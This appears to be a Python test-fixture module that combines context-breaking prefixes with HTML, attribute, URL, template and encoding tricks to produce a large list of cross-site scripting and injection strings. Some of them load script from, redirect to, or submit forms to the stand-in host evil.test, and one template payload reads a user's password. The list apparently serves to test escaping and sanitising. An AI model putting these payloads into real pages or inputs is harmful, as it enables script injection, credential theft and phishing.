"""Texts that would run as code, were they ever taken for markup. Made from parts, so that every kind meets every place."""

from __future__ import annotations

RUN = "window.ran=1"

_OUT_OF = ["", '">', "'>", "</textarea>", "</title>", "</script>", "--></style>", "]]>", '" ', "' ", "`", "</bdi></p></li>"]
_ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT >",
    "<script src=//evil.test/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<base href=//evil.test/>",
    "<form action=//evil.test/><button>Claim",
]
_ATTRIBUTES = [
    f"onmouseover={RUN} x=",
    f"autofocus onfocus={RUN} x=",
    "style=position:fixed;inset:0 x=",
    "hx-get=//evil.test/ hx-trigger=load x=",
    f"hx-on::load={RUN} x=",
    "id=told x=",
]
_OTHERS = [
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"{{{{ {RUN} }}}}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "<%= 7 * 7 %>",
    "%(password)s {0.__class__}",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "\u202e<script>window.ran=1</script>",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "<div hx-swap-oob='true' id='standing'>gone</div>",
    "<template><p hx-swap-oob='innerHTML:#announce'>spoken</p></template>",
    "=HYPERLINK(\"//evil.test\")",
    "[a](javascript:window.ran=1)",
    "z" + "\u0335\u0336\u0337" * 400,
]

VECTORS = [
    *(out + element for out in _OUT_OF for element in _ELEMENTS),
    *(quote + attribute + quote for quote in ('"', "'", "") for attribute in _ATTRIBUTES),
    *_OTHERS,
]
